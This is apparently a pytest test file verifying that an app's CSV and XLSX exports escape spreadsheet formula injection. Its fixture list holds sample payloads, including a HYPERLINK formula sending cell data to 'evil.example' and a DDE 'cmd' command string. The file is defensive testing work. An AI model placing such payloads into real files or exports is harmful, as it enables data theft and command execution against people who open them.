"""Exports that are safe to open: text a spreadsheet would run as a formula (starting
with = + - @, a tab or a carriage return, also after spaces) is escaped in CSV and
written as text in XLSX; numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from zist.actions.models import Action

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


@pytest.fixture
def actions(cast):
    for title in [*DANGEROUS, "Plain title", "a=b"]:
        Action.objects.create(unit=cast.inside, title=title, progress=5)
    return Action.objects.all()


def _csv_titles(response) -> dict:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    column = rows[0].index("Title")
    return {row[column]: row for row in rows[1:]}


def test_it_escapes_formulas_in_csv(actions, client, cast):
    client.force_login(cast.superuser)
    titles = _csv_titles(client.get("/en/actions/actions/?export=csv"))
    for title in DANGEROUS:
        assert "'" + title in titles, title
        assert title not in titles
    assert "Plain title" in titles and "a=b" in titles


def test_it_writes_formulas_as_text_in_xlsx(actions, client, cast):
    client.force_login(cast.superuser)
    response = client.get("/en/actions/actions/?export=xlsx")
    # Sent as a file (decision 0026): its length is known before the first byte.
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    title, progress = header.index("Title"), header.index("Progress (%)")
    cells = {row[title].value: row for row in sheet.iter_rows(min_row=2)}
    for text in DANGEROUS:
        assert text in cells or text.replace("\r", "\n") in cells, text
    assert all(row[title].data_type == "s" for row in cells.values())
    assert all(row[progress].data_type == "n" for row in cells.values())


def test_it_leaves_numbers_and_plain_text_alone():
    from zist.core.exports import csv_safe

    assert csv_safe(-5) == -5
    assert csv_safe("Plain") == "Plain"
    assert csv_safe("") == ""
    assert csv_safe(" =1") == "' =1"
